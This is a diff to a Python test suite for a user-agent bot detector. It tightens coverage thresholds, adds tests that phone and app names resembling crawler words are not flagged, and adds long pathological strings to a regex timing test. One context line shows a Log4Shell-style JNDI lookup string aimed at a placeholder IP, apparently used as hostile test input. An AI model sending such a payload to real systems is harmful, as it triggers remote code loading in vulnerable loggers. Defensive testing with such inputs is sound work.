@@ -169,14 +169,14 @@ ${jndi:ldap://203.0.113.1/a}
 def test_not_one_of_hundreds_of_browsers_is_lost():
     """In-app browsers, telephones of all makers, televisions, consoles, cars, what is old and still in use."""
     browsers = table("browsers.txt")
-    assert len(browsers) > 300 and len(set(browsers)) == len(browsers)
+    assert len(browsers) > 400 and len(set(browsers)) == len(browsers)
     assert [agent for agent in browsers if is_bot(agent)] == []
 
 
 def test_hundreds_of_machines_are_found():
     """AI, search, Japan's, monitoring, link previews, mail scanners, libraries, driven browsers, SEO, and liars."""
     machines = table("machines.txt")
-    assert len(machines) > 450 and len(set(machines)) == len(machines)
+    assert len(machines) > 500 and len(set(machines)) == len(machines)
     assert [agent for agent in machines if not is_bot(agent)] == []
 
 
@@ -185,7 +185,72 @@ def test_our_own_rules_find_nearly_all_of_them_alone():
     machines = table("machines.txt")
     own_rules = [applies for applies, _reason in bots.RULES if applies is not bots.is_on_a_public_list]
     found = sum(any(rule(agent) for rule in own_rules) for agent in machines)
-    assert found / len(machines) >= 0.97  # measured 0.994
+    assert found / len(machines) >= 0.99  # measured 1.0
+
+
+#: Each is a word by which machines are found elsewhere.
+WORDS_OF_THE_TRADE = (
+    "Spider 8", "GOT-W09", "Swift 3", "Robot X", "Smart Monitor M8", "Node 5", "Rust", "Ruby", "Probe", "Archive 5", "Bot One",
+    "Preview", "Scanner 10", "Fetch TV", "PHP 7", "Crawler", "Lighthouse", "Cypress", "Google Box", "Validator", "x.com", "Mabl",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("word", WORDS_OF_THE_TRADE)
+@pytest.mark.parametrize(
+    "agent",
+    [
+        "Mozilla/5.0 (Linux; Android 14; {}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Mobile Safari/537.36",
+        "Mozilla/5.0 (Linux; U; Android 9; ja-jp; {} Build/P1) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 "
+        "Chrome/99.0.1.1 Mobile Safari/537.36",
+        "Mozilla/5.0 (Linux; Android 12; HarmonyOS; {}; HMSCore 6.6.0.369) AppleWebKit/537.36 (KHTML, like Gecko) "
+        "Chrome/99.0.4515.105 HuaweiBrowser/12.0.4.310 Safari/537.36",
+        "Mozilla/5.0 (Linux; Android 13; SM-1; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/130.0.6723.58 "
+        "Mobile Safari/537.36 Instagram 335.0.0.39.93 Android (33/13; 320dpi; 1600x2560; MAKER; {}; ja_JP; 609)",
+        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/22B83 "
+        "[FBAN/FBIOS;FBAV/488.0.0.64.104;FBDV/{};FBSN/iOS;FBCR/{};FBID/phone;FBLC/de_DE;FBOP/5;FBRV/0]",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 "
+        "[FBAN/FBW;FBAV/320.0;FBDV/WindowsDevice;FBMD/{}",
+    ],
+)  # fmt: skip
+def test_a_device_may_be_called_anything(agent, word):
+    assert bot_reason(agent.replace("{}", word)) is None
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "Monitor-App/3",
+        "Box/8.1 preview",
+        "GoogleClassroom/9",
+        "Archive/1",
+        "Fetch/2",
+        "Inspect/1",
+        "SEO/2",
+        "swift/5",
+        "a.de/1",
+    ],
+)
+def test_an_app_on_a_telephone_may_be_called_nearly_anything(name):
+    iphone = (
+        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148"
+    )
+    android = (
+        "Mozilla/5.0 (Linux; Android 12; TB-X306F; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 "
+        "Chrome/138.0.0.0 Safari/537.36"
+    )
+    for agent in (f"{iphone} {name}", f"{iphone} Safari/604.1 {name}", f"{android} {name}", f"{android}; {name}"):
+        assert bot_reason(agent) is None
+    desktop = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Safari/537.36"
+    assert is_bot(f"{desktop}; {name}")
+
+
+def test_an_unknown_name_on_a_desktop_is_no_machine_by_itself():
+    """Extensions, companies' own browsers and apps sign too."""
+    desktop = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Safari/537.36"
+    assert not any(is_bot(f"{desktop} {name}") for name in ("Mihon/1.0", "MihonKiosk", "Honorlock", "Herring/97.1"))
+    assert all(
+        is_bot(f"{desktop} {name}") for name in ("Mimecast", "VirusTotal", "FireEye/1.0", "Mabl", "(StatusCake)")
+    )
 
 
 def test_a_browser_that_is_cut_off_is_a_browser_only_while_it_names_itself():
@@ -237,6 +302,12 @@ def test_hostile_agents_do_not_hold_the_flusher():
         "Mozilla/5.0 (X11" + "; Linux" * 70 + ")",
         "a." * 256,
         "Mozilla/5.0 (Windows) " + "a " * 240,
+        "Mozilla/5.0 (Linux; Android " + "(b) " * 120,
+        "Mozilla/5.0 Linux; Android " * 19,
+        "iphone android " * 34,
+        "Mozilla/5.0 (iPhone) Mobile/1" + "Safari/1 " * 55,
+        "Mozilla/5.0 (Linux; Android) AppleWebKit/5 (KHTML, like " + "(1/2; 3dpi;" * 40,
+        "a" * 80 + "Mozilla/5.0" + "webkit khtml " * 30,
     ]
     assert timeit.timeit(lambda: [bots._reason.__wrapped__(agent) for agent in hostile], number=1) < 0.5
 
@@ -254,7 +325,7 @@ class TestRealAgents:
         """The list comes from one of the libraries; our own rules must do on agents that it has not seen."""
         agents = self.agents("bots.json")
         own_rules = [applies for applies, _reason in bots.RULES if applies is not bots.is_on_a_public_list]
-        assert sum(any(rule(agent) for rule in own_rules) for agent in agents) / len(agents) >= 0.97  # measured 0.988
+        assert sum(any(rule(agent) for rule in own_rules) for agent in agents) / len(agents) >= 0.99  # measured 0.998
 
     def test_no_browser_is_lost(self):
         assert [agent for agent in self.agents("browsers.json") if is_bot(agent)] == []
